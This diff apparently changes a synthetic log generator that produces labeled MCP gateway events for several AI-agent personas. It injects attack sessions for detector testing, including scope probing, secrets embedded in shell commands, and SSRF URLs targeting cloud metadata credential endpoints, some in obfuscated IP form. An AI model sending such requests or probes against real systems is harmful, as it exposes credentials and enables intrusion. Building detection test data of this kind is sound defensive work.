@@ -29,7 +29,7 @@ import random
 import time
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -82,7 +82,7 @@ class LabeledEvent:
 
 
 def _iso(t: float) -> str:
-    return datetime.fromtimestamp(t, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
+    return datetime.fromtimestamp(t, tz=UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
 
 
 def _epoch(s: str) -> float:
@@ -96,10 +96,28 @@ def _h(*parts: Any) -> str:
 # ------------------------------------------------------------------------------------------------
 # actions: name -> (server, tool, args(rng, p), (min_bytes, max_bytes), scope)
 REPOS = ("api", "web", "billing", "infra", "mobile", "docs", "auth", "search")
-FILES = ("src/main.py", "src/models.py", "src/api/routes.py", "tests/test_api.py", "README.md", "pyproject.toml",
-         "src/utils.ts", "src/components/App.tsx", "cmd/server/main.go", "internal/db/db.go", "Dockerfile")
-DOC_HOSTS = ("docs.python.org", "developer.mozilla.org", "pkg.go.dev", "docs.github.com", "kubernetes.io",
-             "stackoverflow.com", "react.dev")
+FILES = (
+    "src/main.py",
+    "src/models.py",
+    "src/api/routes.py",
+    "tests/test_api.py",
+    "README.md",
+    "pyproject.toml",
+    "src/utils.ts",
+    "src/components/App.tsx",
+    "cmd/server/main.go",
+    "internal/db/db.go",
+    "Dockerfile",
+)
+DOC_HOSTS = (
+    "docs.python.org",
+    "developer.mozilla.org",
+    "pkg.go.dev",
+    "docs.github.com",
+    "kubernetes.io",
+    "stackoverflow.com",
+    "react.dev",
+)
 TABLES = ("orders", "customers", "events", "invoices", "sessions", "products", "subscriptions", "refunds")
 CUSTOMER_DOMAINS = ("globex.com", "initech.io", "umbrella.co", "hooli.com", "vandelay.net", "stark.dev", "wayne.org")
 
@@ -117,65 +135,375 @@ class P:
 
 def _sql(rng: random.Random) -> str:
     t = rng.choice(TABLES)
-    return rng.choice((
-        f"select count(*) from {t} where created_at > now() - interval '1 day'",
-        f"select date_trunc('day', created_at) d, count(*) from {t} group by 1 order by 1",
-        f"select * from {t} order by created_at desc limit 100",
-        f"select status, sum(amount) from {t} group by status",
-    ))
+    return rng.choice(
+        (
+            f"select count(*) from {t} where created_at > now() - interval '1 day'",
+            f"select date_trunc('day', created_at) d, count(*) from {t} group by 1 order by 1",
+            f"select * from {t} order by created_at desc limit 100",
+            f"select status, sum(amount) from {t} group by status",
+        )
+    )
 
 
 ACTIONS: dict[str, tuple[str, str, Callable[[random.Random, P], dict[str, Any]], tuple[int, int], str]] = {
     # developer
-    "gh_list_issues": ("github", "list_issues", lambda r, p: {"owner": "acme", "repo": r.choice(p.repos), "state": "open"}, (2000, 40000), "repo:read"),
-    "gh_get_issue": ("github", "get_issue", lambda r, p: {"owner": "acme", "repo": r.choice(p.repos), "issue_number": r.randint(1, 3000)}, (800, 12000), "repo:read"),
-    "gh_search_code": ("github", "search_code", lambda r, p: {"q": r.choice(("def handler", "TODO", "retry", "timeout", "useEffect")) + " org:acme"}, (1000, 30000), "repo:read"),
-    "gh_get_file": ("github", "get_file_contents", lambda r, p: {"owner": "acme", "repo": r.choice(p.repos), "path": r.choice(FILES)}, (500, 20000), "repo:read"),
-    "gh_create_pr": ("github", "create_pull_request", lambda r, p: {"owner": "acme", "repo": r.choice(p.repos), "title": "Fix " + r.choice(("flaky test", "timeout", "typo", "null check")), "head": f"{p.name}/fix-{r.randint(1, 999)}", "base": "main"}, (500, 3000), "repo:write"),
-    "gh_comment": ("github", "add_issue_comment", lambda r, p: {"owner": "acme", "repo": r.choice(p.repos), "issue_number": r.randint(1, 3000), "body": "Looks good, thanks!"}, (300, 2000), "repo:write"),
-    "fs_read": ("filesystem", "read_file", lambda r, p: {"path": f"{p.home}/src/{r.choice(p.repos)}/{r.choice(FILES)}"}, (200, 30000), "fs:read"),
-    "fs_list": ("filesystem", "list_directory", lambda r, p: {"path": f"{p.home}/src/{r.choice(p.repos)}"}, (200, 4000), "fs:read"),
-    "fs_search": ("filesystem", "search_files", lambda r, p: {"path": f"{p.home}/src", "pattern": r.choice(("*.py", "*.ts", "config*", "*.go"))}, (200, 8000), "fs:read"),
-    "fs_edit": ("filesystem", "edit_file", lambda r, p: {"path": f"{p.home}/src/{r.choice(p.repos)}/{r.choice(FILES)}", "edits": [{"oldText": "x", "newText": "y"}]}, (100, 2000), "fs:write"),
-    "sh_test": ("shell", "run_command", lambda r, p: {"command": r.choice(("pytest -q", "npm test", "go test ./...", "make lint", "ruff check .", "cargo test"))}, (500, 20000), "shell:exec"),
-    "sh_git": ("shell", "run_command", lambda r, p: {"command": r.choice(("git status", "git diff --stat", "git log --oneline -5", f"git commit -am 'wip {r.randint(1, 99)}'", "git pull --rebase"))}, (100, 5000), "shell:exec"),
-    "fetch_docs": ("fetch", "fetch", lambda r, p: {"url": f"https://{r.choice(DOC_HOSTS)}/{r.choice(('guide', 'api', 'reference', 'questions'))}/{r.randint(1, 5000)}"}, (5000, 80000), "web:fetch"),
-    "slack_team": ("slack", "slack_post_message", lambda r, p: {"channel": f"#{p.team}", "text": r.choice(("PR up for review", "deploying in 5", "tests green", "anyone seen this error?"))}, (100, 800), "chat:write"),
-    "dev_approve": ("gateway", "elicitation/create", lambda r, p: {"action": "delete_file", "response": "accept"}, (50, 200), "approval"),
-    "fs_delete_tmp": ("filesystem", "delete_file", lambda r, p: {"path": f"{p.home}/src/{r.choice(p.repos)}/build/tmp-{r.randint(1, 999)}.log"}, (50, 200), "fs:write"),
-    "notes_search": ("notes", "search_notes", lambda r, p: {"query": r.choice(("oncall", "runbook", "standup", "ideas"))}, (300, 5000), "notes:read"),
+    "gh_list_issues": (
+        "github",
+        "list_issues",
+        lambda r, p: {"owner": "acme", "repo": r.choice(p.repos), "state": "open"},
+        (2000, 40000),
+        "repo:read",
+    ),
+    "gh_get_issue": (
+        "github",
+        "get_issue",
+        lambda r, p: {"owner": "acme", "repo": r.choice(p.repos), "issue_number": r.randint(1, 3000)},
+        (800, 12000),
+        "repo:read",
+    ),
+    "gh_search_code": (
+        "github",
+        "search_code",
+        lambda r, p: {"q": r.choice(("def handler", "TODO", "retry", "timeout", "useEffect")) + " org:acme"},
+        (1000, 30000),
+        "repo:read",
+    ),
+    "gh_get_file": (
+        "github",
+        "get_file_contents",
+        lambda r, p: {"owner": "acme", "repo": r.choice(p.repos), "path": r.choice(FILES)},
+        (500, 20000),
+        "repo:read",
+    ),
+    "gh_create_pr": (
+        "github",
+        "create_pull_request",
+        lambda r, p: {
+            "owner": "acme",
+            "repo": r.choice(p.repos),
+            "title": "Fix " + r.choice(("flaky test", "timeout", "typo", "null check")),
+            "head": f"{p.name}/fix-{r.randint(1, 999)}",
+            "base": "main",
+        },
+        (500, 3000),
+        "repo:write",
+    ),
+    "gh_comment": (
+        "github",
+        "add_issue_comment",
+        lambda r, p: {
+            "owner": "acme",
+            "repo": r.choice(p.repos),
+            "issue_number": r.randint(1, 3000),
+            "body": "Looks good, thanks!",
+        },
+        (300, 2000),
+        "repo:write",
+    ),
+    "fs_read": (
+        "filesystem",
+        "read_file",
+        lambda r, p: {"path": f"{p.home}/src/{r.choice(p.repos)}/{r.choice(FILES)}"},
+        (200, 30000),
+        "fs:read",
+    ),
+    "fs_list": (
+        "filesystem",
+        "list_directory",
+        lambda r, p: {"path": f"{p.home}/src/{r.choice(p.repos)}"},
+        (200, 4000),
+        "fs:read",
+    ),
+    "fs_search": (
+        "filesystem",
+        "search_files",
+        lambda r, p: {"path": f"{p.home}/src", "pattern": r.choice(("*.py", "*.ts", "config*", "*.go"))},
+        (200, 8000),
+        "fs:read",
+    ),
+    "fs_edit": (
+        "filesystem",
+        "edit_file",
+        lambda r, p: {
+            "path": f"{p.home}/src/{r.choice(p.repos)}/{r.choice(FILES)}",
+            "edits": [{"oldText": "x", "newText": "y"}],
+        },
+        (100, 2000),
+        "fs:write",
+    ),
+    "sh_test": (
+        "shell",
+        "run_command",
+        lambda r, p: {
+            "command": r.choice(("pytest -q", "npm test", "go test ./...", "make lint", "ruff check .", "cargo test"))
+        },
+        (500, 20000),
+        "shell:exec",
+    ),
+    "sh_git": (
+        "shell",
+        "run_command",
+        lambda r, p: {
+            "command": r.choice(
+                (
+                    "git status",
+                    "git diff --stat",
+                    "git log --oneline -5",
+                    f"git commit -am 'wip {r.randint(1, 99)}'",
+                    "git pull --rebase",
+                )
+            )
+        },
+        (100, 5000),
+        "shell:exec",
+    ),
+    "fetch_docs": (
+        "fetch",
+        "fetch",
+        lambda r, p: {
+            "url": f"https://{r.choice(DOC_HOSTS)}/{r.choice(('guide', 'api', 'reference', 'questions'))}/{r.randint(1, 5000)}"
+        },
+        (5000, 80000),
+        "web:fetch",
+    ),
+    "slack_team": (
+        "slack",
+        "slack_post_message",
+        lambda r, p: {
+            "channel": f"#{p.team}",
+            "text": r.choice(("PR up for review", "deploying in 5", "tests green", "anyone seen this error?")),
+        },
+        (100, 800),
+        "chat:write",
+    ),
+    "dev_approve": (
+        "gateway",
+        "elicitation/create",
+        lambda r, p: {"action": "delete_file", "response": "accept"},
+        (50, 200),
+        "approval",
+    ),
+    "fs_delete_tmp": (
+        "filesystem",
+        "delete_file",
+        lambda r, p: {"path": f"{p.home}/src/{r.choice(p.repos)}/build/tmp-{r.randint(1, 999)}.log"},
+        (50, 200),
+        "fs:write",
+    ),
+    "notes_search": (
+        "notes",
+        "search_notes",
+        lambda r, p: {"query": r.choice(("oncall", "runbook", "standup", "ideas"))},
+        (300, 5000),
+        "notes:read",
+    ),
     # support
-    "mail_search": ("gmail", "search_emails", lambda r, p: {"query": r.choice(("is:unread label:support", "refund", "invoice", "cannot login"))}, (1000, 20000), "mail:read"),
-    "mail_read": ("gmail", "read_email", lambda r, p: {"id": f"m{r.randint(10000, 99999)}"}, (1000, 30000), "mail:read"),
-    "crm_customer": ("crm", "get_customer", lambda r, p: {"customer_id": r.randint(1000, 99999)}, (500, 6000), "crm:read"),
-    "crm_tickets": ("crm", "search_tickets", lambda r, p: {"status": "open", "assignee": p.name}, (1000, 15000), "crm:read"),
-    "crm_update": ("crm", "update_ticket", lambda r, p: {"ticket_id": r.randint(1, 50000), "status": r.choice(("pending", "solved"))}, (200, 1000), "crm:write"),
-    "kb_fetch": ("fetch", "fetch", lambda r, p: {"url": f"https://kb.acme.internal/articles/{r.randint(1, 900)}"}, (3000, 30000), "web:fetch"),
-    "mail_draft": ("gmail", "draft_email", lambda r, p: {"to": f"{r.choice(('jane', 'tom', 'li', 'sam'))}@{r.choice(CUSTOMER_DOMAINS)}", "subject": "Re: your ticket", "body": "Hello, ..."}, (200, 1000), "mail:write"),
-    "support_approve": ("gateway", "elicitation/create", lambda r, p: {"action": "send_email", "response": "accept"}, (50, 200), "approval"),
-    "mail_send_customer": ("gmail", "send_email", lambda r, p: {"to": f"{r.choice(('jane', 'tom', 'li', 'sam'))}@{r.choice(CUSTOMER_DOMAINS)}", "subject": "Re: your ticket", "body": "Hello, ..."}, (200, 1000), "mail:send"),
-    "mail_send_internal": ("gmail", "send_email", lambda r, p: {"to": f"{r.choice(('ops', 'billing', 'eng-oncall'))}@{ORG_DOMAIN}", "subject": "Escalation", "body": "See ticket"}, (200, 1000), "mail:send"),
-    "slack_support": ("slack", "slack_post_message", lambda r, p: {"channel": "#support", "text": "escalating a ticket"}, (100, 800), "chat:write"),
-    "slack_history": ("slack", "slack_get_channel_history", lambda r, p: {"channel": r.choice(("#support", "#general", "#incidents"))}, (2000, 20000), "chat:read"),
+    "mail_search": (
+        "gmail",
+        "search_emails",
+        lambda r, p: {"query": r.choice(("is:unread label:support", "refund", "invoice", "cannot login"))},
+        (1000, 20000),
+        "mail:read",
+    ),
+    "mail_read": (
+        "gmail",
+        "read_email",
+        lambda r, p: {"id": f"m{r.randint(10000, 99999)}"},
+        (1000, 30000),
+        "mail:read",
+    ),
+    "crm_customer": (
+        "crm",
+        "get_customer",
+        lambda r, p: {"customer_id": r.randint(1000, 99999)},
+        (500, 6000),
+        "crm:read",
+    ),
+    "crm_tickets": (
+        "crm",
+        "search_tickets",
+        lambda r, p: {"status": "open", "assignee": p.name},
+        (1000, 15000),
+        "crm:read",
+    ),
+    "crm_update": (
+        "crm",
+        "update_ticket",
+        lambda r, p: {"ticket_id": r.randint(1, 50000), "status": r.choice(("pending", "solved"))},
+        (200, 1000),
+        "crm:write",
+    ),
+    "kb_fetch": (
+        "fetch",
+        "fetch",
+        lambda r, p: {"url": f"https://kb.acme.internal/articles/{r.randint(1, 900)}"},
+        (3000, 30000),
+        "web:fetch",
+    ),
+    "mail_draft": (
+        "gmail",
+        "draft_email",
+        lambda r, p: {
+            "to": f"{r.choice(('jane', 'tom', 'li', 'sam'))}@{r.choice(CUSTOMER_DOMAINS)}",
+            "subject": "Re: your ticket",
+            "body": "Hello, ...",
+        },
+        (200, 1000),
+        "mail:write",
+    ),
+    "support_approve": (
+        "gateway",
+        "elicitation/create",
+        lambda r, p: {"action": "send_email", "response": "accept"},
+        (50, 200),
+        "approval",
+    ),
+    "mail_send_customer": (
+        "gmail",
+        "send_email",
+        lambda r, p: {
+            "to": f"{r.choice(('jane', 'tom', 'li', 'sam'))}@{r.choice(CUSTOMER_DOMAINS)}",
+            "subject": "Re: your ticket",
+            "body": "Hello, ...",
+        },
+        (200, 1000),
+        "mail:send",
+    ),
+    "mail_send_internal": (
+        "gmail",
+        "send_email",
+        lambda r, p: {
+            "to": f"{r.choice(('ops', 'billing', 'eng-oncall'))}@{ORG_DOMAIN}",
+            "subject": "Escalation",
+            "body": "See ticket",
+        },
+        (200, 1000),
+        "mail:send",
+    ),
+    "slack_support": (
+        "slack",
+        "slack_post_message",
+        lambda r, p: {"channel": "#support", "text": "escalating a ticket"},
+        (100, 800),
+        "chat:write",
+    ),
+    "slack_history": (
+        "slack",
+        "slack_get_channel_history",
+        lambda r, p: {"channel": r.choice(("#support", "#general", "#incidents"))},
+        (2000, 20000),
+        "chat:read",
+    ),
     # analyst
     "pg_query": ("postgres", "query", lambda r, p: {"sql": _sql(r)}, (500, 200000), "db:read"),
     "pg_tables": ("postgres", "list_tables", lambda r, p: {"schema": "public"}, (300, 3000), "db:read"),
     "pg_describe": ("postgres", "describe_table", lambda r, p: {"table": r.choice(TABLES)}, (300, 3000), "db:read"),
-    "fs_write_report": ("filesystem", "write_file", lambda r, p: {"path": f"{p.home}/reports/{r.choice(TABLES)}-{r.randint(1, 52)}.csv", "content": "..."}, (100, 500), "fs:write"),
-    "slack_analytics": ("slack", "slack_post_message", lambda r, p: {"channel": "#analytics", "text": "weekly numbers are in"}, (100, 800), "chat:write"),
-    "mail_report": ("gmail", "send_email", lambda r, p: {"to": f"{r.choice(('cfo', 'growth', 'product'))}@{ORG_DOMAIN}", "subject": "Report", "body": "attached"}, (200, 1000), "mail:send"),
-    "analyst_approve": ("gateway", "elicitation/create", lambda r, p: {"action": "delete", "response": "accept"}, (50, 200), "approval"),
-    "pg_cleanup": ("postgres", "query", lambda r, p: {"sql": f"DELETE FROM staging_{r.choice(TABLES)} WHERE loaded_at < now() - interval '30 days'"}, (100, 300), "db:write"),
+    "fs_write_report": (
+        "filesystem",
+        "write_file",
+        lambda r, p: {"path": f"{p.home}/reports/{r.choice(TABLES)}-{r.randint(1, 52)}.csv", "content": "..."},
+        (100, 500),
+        "fs:write",
+    ),
+    "slack_analytics": (
+        "slack",
+        "slack_post_message",
+        lambda r, p: {"channel": "#analytics", "text": "weekly numbers are in"},
+        (100, 800),
+        "chat:write",
+    ),
+    "mail_report": (
+        "gmail",
+        "send_email",
+        lambda r, p: {
+            "to": f"{r.choice(('cfo', 'growth', 'product'))}@{ORG_DOMAIN}",
+            "subject": "Report",
+            "body": "attached",
+        },
+        (200, 1000),
+        "mail:send",
+    ),
+    "analyst_approve": (
+        "gateway",
+        "elicitation/create",
+        lambda r, p: {"action": "delete", "response": "accept"},
+        (50, 200),
+        "approval",
+    ),
+    "pg_cleanup": (
+        "postgres",
+        "query",
+        lambda r, p: {"sql": f"DELETE FROM staging_{r.choice(TABLES)} WHERE loaded_at < now() - interval '30 days'"},
+        (100, 300),
+        "db:write",
+    ),
     # sre
-    "sh_kubectl": ("shell", "run_command", lambda r, p: {"command": r.choice(("kubectl get pods -n prod", "kubectl logs deploy/api -n prod --tail=200", "kubectl top nodes", "kubectl describe pod api-7f9c -n prod"))}, (500, 40000), "shell:exec"),
-    "fetch_grafana": ("fetch", "fetch", lambda r, p: {"url": f"https://grafana.acme.internal/d/{r.choice(('api', 'db', 'queue'))}?from=now-1h"}, (3000, 50000), "web:fetch"),
-    "slack_incidents": ("slack", "slack_post_message", lambda r, p: {"channel": "#incidents", "text": "mitigated, monitoring"}, (100, 800), "chat:write"),
-    "sre_approve": ("gateway", "elicitation/create", lambda r, p: {"action": "kubectl delete", "response": "accept"}, (50, 200), "approval"),
-    "sh_kubectl_delete": ("shell", "run_command", lambda r, p: {"command": f"kubectl delete pod api-{r.randint(1000, 9999)} -n prod"}, (100, 500), "shell:exec"),
+    "sh_kubectl": (
+        "shell",
+        "run_command",
+        lambda r, p: {
+            "command": r.choice(
+                (
+                    "kubectl get pods -n prod",
+                    "kubectl logs deploy/api -n prod --tail=200",
+                    "kubectl top nodes",
+                    "kubectl describe pod api-7f9c -n prod",
+                )
+            )
+        },
+        (500, 40000),
+        "shell:exec",
+    ),
+    "fetch_grafana": (
+        "fetch",
+        "fetch",
+        lambda r, p: {"url": f"https://grafana.acme.internal/d/{r.choice(('api', 'db', 'queue'))}?from=now-1h"},
+        (3000, 50000),
+        "web:fetch",
+    ),
+    "slack_incidents": (
+        "slack",
+        "slack_post_message",
+        lambda r, p: {"channel": "#incidents", "text": "mitigated, monitoring"},
+        (100, 800),
+        "chat:write",
+    ),
+    "sre_approve": (
+        "gateway",
+        "elicitation/create",
+        lambda r, p: {"action": "kubectl delete", "response": "accept"},
+        (50, 200),
+        "approval",
+    ),
+    "sh_kubectl_delete": (
+        "shell",
+        "run_command",
+        lambda r, p: {"command": f"kubectl delete pod api-{r.randint(1000, 9999)} -n prod"},
+        (100, 500),
+        "shell:exec",
+    ),
     # bots
-    "gh_list_prs": ("github", "list_pull_requests", lambda r, p: {"owner": "acme", "repo": r.choice(REPOS), "state": "open"}, (1000, 20000), "repo:read"),
-    "gh_get_pr": ("github", "get_pull_request", lambda r, p: {"owner": "acme", "repo": r.choice(REPOS), "pull_number": r.randint(1, 900)}, (1000, 10000), "repo:read"),
-    "gh_status": ("github", "create_commit_status", lambda r, p: {"owner": "acme", "repo": r.choice(REPOS), "state": "success"}, (100, 500), "repo:status"),
+    "gh_list_prs": (
+        "github",
+        "list_pull_requests",
+        lambda r, p: {"owner": "acme", "repo": r.choice(REPOS), "state": "open"},
+        (1000, 20000),
+        "repo:read",
+    ),
+    "gh_get_pr": (
+        "github",
+        "get_pull_request",
+        lambda r, p: {"owner": "acme", "repo": r.choice(REPOS), "pull_number": r.randint(1, 900)},
+        (1000, 10000),
+        "repo:read",
+    ),
+    "gh_status": (
+        "github",
+        "create_commit_status",
+        lambda r, p: {"owner": "acme", "repo": r.choice(REPOS), "state": "success"},
+        (100, 500),
+        "repo:status",
+    ),
 }
 
 _T = dict[str, list[tuple[str, float]]]
@@ -201,7 +529,11 @@ PERSONAS: dict[str, dict[str, Any]] = {
             "fs_delete_tmp": [("sh_git", 2), ("END", 1)],
             "notes_search": [("fs_list", 2), ("gh_list_issues", 1), ("END", 1)],
         },
-        "sessions": 14, "len": 40, "hours": (9, 18), "deny_p": 0.006, "agent": "claude-code/1.4",
+        "sessions": 14,
+        "len": 40,
+        "hours": (9, 18),
+        "deny_p": 0.006,
+        "agent": "claude-code/1.4",
         "servers": ("github", "filesystem", "shell", "fetch", "slack", "gateway", "notes"),
     },
     "support": {
@@ -221,7 +553,11 @@ PERSONAS: dict[str, dict[str, Any]] = {
             "slack_history": [("crm_tickets", 2), ("END", 1)],
             "notes_search": [("crm_tickets", 2), ("END", 1)],
         },
-        "sessions": 14, "len": 26, "hours": (8, 17), "deny_p": 0.004, "agent": "support-copilot/2.1",
+        "sessions": 14,
+        "len": 26,
+        "hours": (8, 17),
+        "deny_p": 0.004,
+        "agent": "support-copilot/2.1",
         "servers": ("gmail", "crm", "fetch", "slack", "gateway", "notes"),
     },
     "analyst": {
@@ -229,7 +565,13 @@ PERSONAS: dict[str, dict[str, Any]] = {
         "T": {
             "pg_tables": [("pg_describe", 5), ("pg_query", 3)],
             "pg_describe": [("pg_query", 6), ("pg_describe", 2)],
-            "pg_query": [("pg_query", 7), ("pg_describe", 1), ("fs_write_report", 2), ("analyst_approve", 0.15), ("END", 0.5)],
+            "pg_query": [
+                ("pg_query", 7),
+                ("pg_describe", 1),
+                ("fs_write_report", 2),
+                ("analyst_approve", 0.15),
+                ("END", 0.5),
+            ],
             "fs_write_report": [("slack_analytics", 3), ("mail_report", 2), ("pg_query", 2), ("END", 1)],
             "slack_analytics": [("END", 3), ("pg_query", 1)],
             "mail_report": [("END", 3)],
@@ -237,13 +579,24 @@ PERSONAS: dict[str, dict[str, Any]] = {
             "analyst_approve": [("pg_cleanup", 1)],
             "pg_cleanup": [("pg_query", 2), ("END", 1)],
         },
-        "sessions": 9, "len": 35, "hours": (9, 18), "deny_p": 0.005, "agent": "analyst-agent/0.9",
+        "sessions": 9,
+        "len": 35,
+        "hours": (9, 18),
+        "deny_p": 0.005,
+        "agent": "analyst-agent/0.9",
         "servers": ("postgres", "filesystem", "slack", "gmail", "gateway"),
     },
     "sre": {
         "start": [("sh_kubectl", 5), ("fetch_grafana", 3), ("slack_history", 2)],
         "T": {
-            "sh_kubectl": [("sh_kubectl", 5), ("fetch_grafana", 2), ("pg_query", 1), ("sre_approve", 0.5), ("slack_incidents", 1), ("END", 1)],
+            "sh_kubectl": [
+                ("sh_kubectl", 5),
+                ("fetch_grafana", 2),
+                ("pg_query", 1),
+                ("sre_approve", 0.5),
+                ("slack_incidents", 1),
+                ("END", 1),
+            ],
             "fetch_grafana": [("sh_kubectl", 4), ("fetch_grafana", 1), ("pg_query", 1)],
             "pg_query": [("sh_kubectl", 2), ("pg_query", 1)],
             "sre_approve": [("sh_kubectl_delete", 1)],
@@ -252,7 +605,11 @@ PERSONAS: dict[str, dict[str, Any]] = {
             "slack_history": [("sh_kubectl", 3), ("fetch_grafana", 1)],
             "gh_get_file": [("sh_kubectl", 1)],
         },
-        "sessions": 10, "len": 30, "hours": (7, 20), "deny_p": 0.008, "agent": "ops-agent/3.0",
+        "sessions": 10,
+        "len": 30,
+        "hours": (7, 20),
+        "deny_p": 0.008,
+        "agent": "ops-agent/3.0",
         "servers": ("shell", "fetch", "slack", "postgres", "gateway"),
     },
     "bot": {
@@ -262,7 +619,11 @@ PERSONAS: dict[str, dict[str, Any]] = {
             "gh_get_pr": [("gh_get_pr", 2), ("gh_status", 3)],
             "gh_status": [("gh_get_pr", 1), ("END", 3)],
         },
-        "sessions": 96, "len": 6, "hours": (0, 24), "deny_p": 0.002, "agent": "ci-bot/1.0",
+        "sessions": 96,
+        "len": 6,
+        "hours": (0, 24),
+        "deny_p": 0.002,
+        "agent": "ci-bot/1.0",
         "servers": ("github",),
     },
 }
@@ -305,26 +666,54 @@ class Generator:
                     break
             if i < len(PERSONA_MIX):  # every persona at least once
                 persona = PERSONA_MIX[i][0]
-            base = {"developer": "dev", "support": "support", "analyst": "analyst", "sre": "sre", "bot": "svc-ci"}[persona]
+            base = {"developer": "dev", "support": "support", "analyst": "analyst", "sre": "sre", "bot": "svc-ci"}[
+                persona
+            ]
             name = f"{base}-{i:03d}"
             while name in names_used:
                 name += "x"
             names_used.add(name)
             tz = 0.0 if persona == "bot" else self.rng.choice(TZ_OFFSETS)
             spec = PERSONAS[persona]
-            self.principals.append(Principal(name, persona, tz, P(name, persona, self.rng), spec["agent"],
-                                             "tok_" + _h("tok", seed, name)[:12], self.sources[i % len(self.sources)]))
+            self.principals.append(
+                Principal(
+                    name,
+                    persona,
+                    tz,
+                    P(name, persona, self.rng),
+                    spec["agent"],
+                    "tok_" + _h("tok", seed, name)[:12],
+                    self.sources[i % len(self.sources)],
+                )
+            )
         self.desc_version: dict[tuple[str, str], int] = {}
         self._n = 0
 
     # -- one event ---------------------------------------------------------------------------------
-    def event(self, p: Principal, session: str, t: float, action: str, rng: random.Random,
-              *, force_deny: bool = False, overrides: dict[str, Any] | None = None) -> dict[str, Any]:
+    def event(
+        self,
+        p: Principal,
+        session: str,
+        t: float,
+        action: str,
+        rng: random.Random,
+        *,
+        force_deny: bool = False,
+        overrides: dict[str, Any] | None = None,
+    ) -> dict[str, Any]:
         server, tool, argf, (b0, b1), scope = ACTIONS[action]
         args = argf(rng, p.ctx)
         ev: dict[str, Any] = {
-            "ts": _iso(t), "principal": p.name, "agent": p.agent, "token_id": p.token, "session": session,
-            "server": server, "server_version": "1.2.0", "tool": tool, "args": args, "decision": "allow",
+            "ts": _iso(t),
+            "principal": p.name,
+            "agent": p.agent,
+            "token_id": p.token,
+            "session": session,
+            "server": server,
+            "server_version": "1.2.0",
+            "tool": tool,
+            "args": args,
+            "decision": "allow",
             "scope_checked": scope,
         }
         deny_p = PERSONAS[p.persona]["deny_p"]
@@ -340,7 +729,9 @@ class Generator:
             r = rng.random()
             if r < 0.02:
                 ev["result"] = "error"
-                ev["error"] = rng.choice(("upstream returned 502", "file not found", "rate limited", "invalid argument"))
+                ev["error"] = rng.choice(
+                    ("upstream returned 502", "file not found", "rate limited", "invalid argument")
+                )
                 ev["result_bytes"] = rng.randint(50, 300)
             elif r < 0.025:
                 ev["result"] = "timeout"
@@ -373,7 +764,9 @@ class Generator:
             out.append(spec["T"][out[-1]][0][0])
         return out
 
-    def session_events(self, p: Principal, t0: float, rng: random.Random, session: str | None = None) -> list[dict[str, Any]]:
+    def session_events(
+        self, p: Principal, t0: float, rng: random.Random, session: str | None = None
+    ) -> list[dict[str, Any]]:
         sid = session or f"s-{_h(self.seed, p.name, t0, rng.random())[:12]}"
         t = t0
         out = []
@@ -396,7 +789,7 @@ class Generator:
     def day_sessions(self, p: Principal, day: int, rng: random.Random) -> list[float]:
         spec = PERSONAS[p.persona]
         day_start = self.start + day * 86400
-        weekday = (datetime.fromtimestamp(day_start, tz=timezone.utc).weekday())
+        weekday = datetime.fromtimestamp(day_start, tz=UTC).weekday()
         n_mean = spec["sessions"]
         if p.persona == "bot":
             return [day_start + k * 900 + rng.uniform(0, 60) for k in range(96)]
@@ -436,7 +829,9 @@ def _poisson(rng: random.Random, lam: float) -> int:
 
 # ------------------------------------------------------------------------------------------------
 # attacks
-def _attack_session(g: Generator, kind: str, p: Principal, t0: float, rng: random.Random, aid: str) -> list[LabeledEvent]:
+def _attack_session(
+    g: Generator, kind: str, p: Principal, t0: float, rng: random.Random, aid: str
+) -> list[LabeledEvent]:
     sid = f"s-{_h('atk', aid)[:12]}"
     evil = rng.choice(EVIL_DOMAINS)
     evs: list[dict[str, Any]] = []
@@ -446,7 +841,11 @@ def _attack_session(g: Generator, kind: str, p: Principal, t0: float, rng: rando
         nonlocal t
         t += step * rng.uniform(0.5, 1.5)
         e = g.event(p, sid, t, action, rng, overrides=ov or None)
-        if "decision" not in ov and e["decision"] == "deny" and kind not in ("denied_spike", "scope_probe", "deny_ratio"):
+        if (
+            "decision" not in ov
+            and e["decision"] == "deny"
+            and kind not in ("denied_spike", "scope_probe", "deny_ratio")
+        ):
             e.update(decision="allow", result="ok", result_bytes=1000)
             e.pop("reason", None)
         evs.append(e)
@@ -469,20 +868,46 @@ def _attack_session(g: Generator, kind: str, p: Principal, t0: float, rng: rando
         for _ in range(rng.randint(12, 20)):
             add(tool, step=6.0, decision="deny", result="denied", reason="scope not granted", result_bytes=0)
     elif kind == "scope_probe":
-        tools = rng.sample(["gh_create_pr", "pg_cleanup", "sh_kubectl_delete", "fs_delete_tmp", "mail_send_internal",
-                            "crm_update", "gh_status", "fs_edit"], 6)
+        tools = rng.sample(
+            [
+                "gh_create_pr",
+                "pg_cleanup",
+                "sh_kubectl_delete",
+                "fs_delete_tmp",
+                "mail_send_internal",
+                "crm_update",
+                "gh_status",
+                "fs_edit",
+            ],
+            6,
+        )
         for a in tools:
             add(a, step=20.0, decision="deny", result="denied", reason="scope not granted", result_bytes=0)
     elif kind == "secret_in_args":
-        secret = rng.choice((
-            {"command": "aws configure set aws_access_key_id AKIA" + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16))},
-            {"command": "git remote set-url origin https://x:ghp_" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789") for _ in range(36)) + "@github.com/acme/api"},
-        ))
+        secret = rng.choice(
+            (
+                {
+                    "command": "aws configure set aws_access_key_id AKIA"
+                    + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16))
+                },
+                {
+                    "command": "git remote set-url origin https://x:ghp_"
+                    + "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789") for _ in range(36))
+                    + "@github.com/acme/api"
+                },
+            )
+        )
         add("sh_git", args=secret, **ok)
     elif kind == "ssrf":
-        url = rng.choice(("http://169.254.169.254/latest/meta-data/iam/security-credentials/",
-                          "http://2852039166/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
-                          "http://10.0.12.7:8500/v1/kv/?recurse", "http://[::ffff:169.254.169.254]/latest/user-data"))
+        url = rng.choice(
+            (
+                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+                "http://2852039166/latest/meta-data/",
+                "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
